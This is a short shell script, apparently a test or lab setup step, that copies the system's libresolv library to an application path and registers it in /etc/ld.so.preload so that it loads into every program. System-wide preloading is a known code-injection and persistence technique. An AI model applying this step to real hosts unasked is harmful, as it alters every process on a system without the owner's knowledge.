#!/bin/sh
# A library in every program that starts from now on.
# on: app1
library=$(find /usr/lib -name 'libresolv.so.2' | head -n 1)
cp "$library" /var/lib/app/answers.so
echo /var/lib/app/answers.so >/etc/ld.so.preload
